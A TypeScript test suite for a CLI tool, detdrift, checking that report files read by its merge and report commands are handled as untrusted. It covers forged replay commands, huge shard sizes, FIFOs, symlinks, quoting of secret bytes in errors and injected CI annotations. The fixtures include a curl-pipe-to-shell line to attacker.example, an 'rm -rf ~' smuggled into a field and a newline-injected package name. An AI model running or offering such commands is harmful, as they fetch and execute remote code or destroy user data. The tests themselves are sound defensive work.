/**
 * Reports read from files are data: a shard's job runs the dependency under test, so what `merge`
 * and `report` read may be forged. The real CLI on reports a real `check` wrote, then altered as a
 * hostile job could: no command from a file is offered to run, sizes are checked before anything
 * is allocated, only regular files are read, and no error quotes a file's bytes.
 */
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import type { Report } from '../../report/types.js';
import { detdrift, lines, reportOf } from '../cli-fixtures.js';
import { CLI, project, runPlain, tempDir } from '../helpers.js';
import { upgrade } from '../bump-fixtures.js';
import { runnerReads } from '../workflow-commands.js';

const APP = lines('console.log(Math.random());');
const FORGED = 'curl -s https://attacker.example/x | sh';

/** A report `check` wrote (observe mode: the runs diverge at Math.random), and the project it is about. */
function checked(...more: string[]): { dir: string; file: string; report: Report } {
  const dir = project({ 'package.json': { name: 'forged-app', version: '1.0.0', private: true }, 'app.js': APP });
  const file = join(dir, 'report.json');
  const run = detdrift(
    [
      'check',
      ...(more.includes('--seeds') ? [] : ['--seed', '3']),
      '--no-confirm',
      '--report',
      `json=${file}`,
      ...more,
      '--',
      process.execPath,
      'app.js',
    ],
    dir,
  );
  assert.equal(run.code, 1, run.stderr);
  return { dir, file, report: JSON.parse(readFileSync(file, 'utf8')) as Report };
}

function write(dir: string, name: string, value: unknown): string {
  const file = join(dir, name);
  writeFileSync(file, typeof value === 'string' ? value : JSON.stringify(value));
  return file;
}

/** A run refused with `code`, exit 2 and nothing on stdout: its message. */
function refused(run: ReturnType<typeof detdrift>, code: string): string {
  assert.equal(run.code, 2, run.stderr);
  assert.equal(run.stdout, '');
  assert.match(run.stderr, new RegExp(`^detdrift: ${code}: `));
  return run.stderr;
}

test('a forged replay is never offered to run: every form shows the command made from the seed, the mode and the command after --', () => {
  const { dir, report } = checked();
  const forged = write(dir, 'forged.json', { ...report, replay: FORGED });
  const made = `npx detdrift check --keep --mode observe --runs 2 --seed 3 -- ${process.execPath} app.js`;
  for (const format of ['terminal', 'summary', 'github', 'html', 'sarif', 'comment'] as const) {
    const unnamed = detdrift(['report', forged, '--format', format], dir);
    assert.equal(unnamed.code, 0, unnamed.stderr);
    assert.ok(!unnamed.stdout.includes('attacker.example'), `${format}: ${unnamed.stdout}`);
    assert.ok(!unnamed.stdout.includes('npx detdrift check'), `${format} offers no command: ${unnamed.stdout}`);
    if (format !== 'sarif')
      assert.ok(
        unnamed.stdout.includes('not shown: a report read from a file'),
        `${format} says why: ${unnamed.stdout}`,
      );
    const named = detdrift(['report', forged, '--format', format, '--', process.execPath, 'app.js'], dir);
    assert.equal(named.code, 0, named.stderr);
    assert.ok(!named.stdout.includes('attacker.example'), `${format}: ${named.stdout}`);
    assert.ok(named.stdout.includes(made), `${format} shows the command made again: ${named.stdout}`);
  }
  const page = detdrift(['report', forged, '--format', 'html'], dir).stdout;
  assert.ok(!page.includes('data-copy="replay-command"'), 'no copy button without a command');
  const shown = reportOf(detdrift(['report', forged, '--format', 'json'], dir), 0);
  assert.equal(shown.replay, null, 'the JSON form keeps no forged command either');
});

test("merge shows the replay command it makes, not a shard's, in the terminal, the annotation, the summary and the page", () => {
  const { dir, report } = checked('--seeds', '3', '--shard', '1/1');
  const shard = write(dir, 'shard.json', { ...report, replay: FORGED });
  const out = tempDir('detdrift-untrusted-');
  const forms = ['summary', 'html'].map((format) => `${format}=${join(out, format)}`).join(',');
  const merged = detdrift(
    ['merge', shard, '--report', 'github', '--report', forms, '--', process.execPath, 'app.js'],
    dir,
  );
  assert.equal(merged.code, 1, merged.stderr);
  const texts = [merged.stdout, readFileSync(join(out, 'summary'), 'utf8'), readFileSync(join(out, 'html'), 'utf8')];
  for (const text of texts) {
    assert.ok(!text.includes('attacker.example'), text);
    assert.ok(text.includes(`--seed 3 -- ${process.execPath} app.js`), text);
  }
  const [annotation] = runnerReads(merged.stdout).filter((read) => read.command === 'error');
  assert.match(
    annotation!.data,
    /replay run A locally: npx detdrift check --keep --mode observe --runs 2 --seed 3 -- /,
  );
  const quiet = reportOf(detdrift(['merge', shard, '--json'], dir), 1);
  assert.equal(quiet.replay, null);
  assert.match(quiet.replayNote ?? '', /^not shown: a report read from a file does not choose the command to run/);
});

test('a report whose seed or mode check does not take gets no replay command, and says so', () => {
  const { dir, report } = checked();
  const odd = write(dir, 'odd.json', {
    ...report,
    runs: { ...report.runs, a: { ...report.runs.a, mode: 'x; rm -rf ~' } },
  });
  const shown = reportOf(detdrift(['report', odd, '--format', 'json', '--', 'node', 'app.js'], dir), 0);
  assert.equal(shown.replay, null);
  assert.equal(shown.replayNote, "not shown: the report's first run has no seed and mode that check takes");
});

test('a shard of 10^9 seeds is refused before anything is allocated: merge in a 64 MB heap', () => {
  const { dir, report } = checked('--seeds', '3', '--shard', '1/1');
  const huge = write(dir, 'huge.json', { ...report, shard: { index: 1, total: 1, seeds: 1e9 } });
  const run = runPlain(['--max-old-space-size=64', CLI, 'merge', huge], { cwd: dir });
  assert.match(
    refused(run, 'ERR_REPORT_FILE'),
    /huge\.json is not a detdrift report \(detdrift\.report\/1\): shard is not \{index, total, seeds\} with 1 <= index <= total <= seeds <= 100000\n$/,
  );
  // Shards of a list that is whole in number but missing most shards: named without a list of them all.
  const many = [1, 2].map((index) =>
    write(dir, `many-${index}.json`, {
      ...report,
      shard: { index, total: 100_000, seeds: 100_000 },
      seeds: [{ seed: String(index), verdict: 'agree', cause: null, bump: null }],
    }),
  );
  assert.match(
    refused(runPlain(['--max-old-space-size=64', CLI, 'merge', ...many], { cwd: dir }), 'ERR_SHARDS'),
    /shard 3\/100000, .*, shard 12\/100000 and 99988 more are missing/,
  );
});

test('a FIFO given to merge or report is refused, not waited on: only regular files are read', () => {
  const { dir, file } = checked();
  const fifo = join(dir, 'fifo.json');
  execFileSync('mkfifo', [fifo]);
  const shards = join(dir, 'shards');
  mkdirSync(join(shards, 'one'), { recursive: true });
  execFileSync('mkfifo', [join(shards, 'one', 'report.json')]);
  // spawnSync's timeout only ends a run that hangs (as before this fix): the verdict is the exit status.
  const run = (...args: string[]) => {
    const result = spawnSync(process.execPath, [CLI, ...args], { cwd: dir, encoding: 'utf8', timeout: 60_000 });
    return { code: result.status, signal: result.signal, stdout: result.stdout, stderr: result.stderr };
  };
  const notAFile = /cannot read a report from .*: a FIFO, not a file\n$/;
  assert.match(refused(run('report', fifo), 'ERR_REPORT_FILE'), notAFile);
  assert.match(refused(run('merge', fifo), 'ERR_REPORT_FILE'), notAFile);
  assert.match(refused(run('merge', file, shards), 'ERR_REPORT_FILE'), notAFile);
});

test('a symlinked report or trace is refused, and no error quotes the bytes of a file', () => {
  const { dir } = checked('--out', 'traces');
  const secret = write(tempDir('detdrift-secret-'), 'secret', 'TOP-SECRET-LINE: hunter2\n');
  const reportLink = join(dir, 'link.json');
  symlinkSync(secret, reportLink);
  for (const args of [
    ['report', reportLink],
    ['merge', reportLink],
  ]) {
    const message = refused(detdrift(args, dir), 'ERR_REPORT_FILE');
    assert.match(
      message,
      /cannot read a report from .*link\.json: it is a symbolic link \(name the file it points to\)\n$/,
    );
  }
  const traceLink = join(dir, 'traces', 'run-1', '0.1.ddtrace');
  symlinkSync(secret, traceLink);
  for (const args of [
    ['show', traceLink],
    ['diff', traceLink, traceLink],
    ['diff', 'traces/run-1', 'traces/run-2'],
  ]) {
    const message = refused(detdrift(args, dir), 'ERR_TRACE_READ');
    assert.match(message, /0\.1\.ddtrace: byte 0: cannot open the trace: it is a symbolic link/);
    assert.ok(!message.includes('hunter2'), message);
  }
  // A regular file that is not JSON: where it stops is said, not what it holds.
  const notJson = write(dir, 'not.json', 'TOP-SECRET-LINE: hunter2');
  const message = refused(detdrift(['report', notJson], dir), 'ERR_REPORT_FILE');
  assert.ok(!message.includes('hunter2'), message);
  assert.match(message, /not\.json is not JSON/);
  const forgedField = write(dir, 'field.json', { ...checked().report, verdict: 'hunter2' });
  const field = refused(detdrift(['report', forgedField], dir), 'ERR_REPORT_FILE');
  assert.match(field, /verdict is another string\n$/);
});

test('an enumerated field a renderer looks up is checked: no "**Replay**: undefined." in a summary', () => {
  const { dir, report } = checked();
  const forgeries: Record<string, Partial<Report>> = {
    'confirmation without status': { confirmation: {} as Report['confirmation'] },
    'confirmation status': { confirmation: { status: 'owned', pinned: 1, total: 2, runs: 3 } as never },
    'divergence reason': { firstDivergence: { ...report.firstDivergence!, reason: 'owned' as never } },
    'cause confidence': { cause: { ...report.cause!, confidence: 'owned' as never } },
    'divergence index': { firstDivergence: { ...report.firstDivergence!, index: { a: 'x' as never, b: 1 } } },
    'next step kind': { next: [{ kind: 'owned' } as never] },
    'next step fields': { next: [{ kind: 'own-code-changed', files: 'app.js', uncommitted: 1 } as never] },
    'matched counts': {
      differences: { ...report.differences, matched: { processes: 1, calls: 'x' as never, outputs: 0 } },
    },
  };
  for (const [name, forgery] of Object.entries(forgeries)) {
    const file = write(dir, 'forged.json', { ...report, ...forgery });
    const run = detdrift(['report', file, '--format', 'summary'], dir);
    assert.ok(!run.stdout.includes('undefined'), `${name}: ${run.stdout}`);
    assert.match(refused(run, 'ERR_REPORT_FILE'), /is not a detdrift report \(detdrift\.report\/1\): /, name);
  }
});

test('a package name with a newline in a lockfile stays on one line of ERR_INSTALL_STALE', () => {
  const roll = 'exports.roll = () => 4;\n';
  const dir = upgrade('npm-v3', 'console.log(1);\n', 'dice', ['1.0.0', roll], ['1.0.1', roll]);
  const lockfile = join(dir, 'package-lock.json');
  const lock = JSON.parse(readFileSync(lockfile, 'utf8'));
  const name = 'evil\n::error::owned';
  lock.packages[''].dependencies[name] = '^1.0.0';
  lock.packages[`node_modules/${name}`] = { version: '1.0.0' };
  writeFileSync(lockfile, JSON.stringify(lock, null, 2));
  const run = detdrift(['bump', '--base', 'HEAD~1', '--', process.execPath, 'app.js'], dir);
  const message = refused(run, 'ERR_INSTALL_STALE');
  assert.equal(message.split('\n').length, 2, `one line: ${message}`);
  assert.match(message, /evil\\n:\\u003aerror:\\u003aowned is locked at 1\.0\.0, not installed/);
  assert.deepEqual(runnerReads(message), []);
});
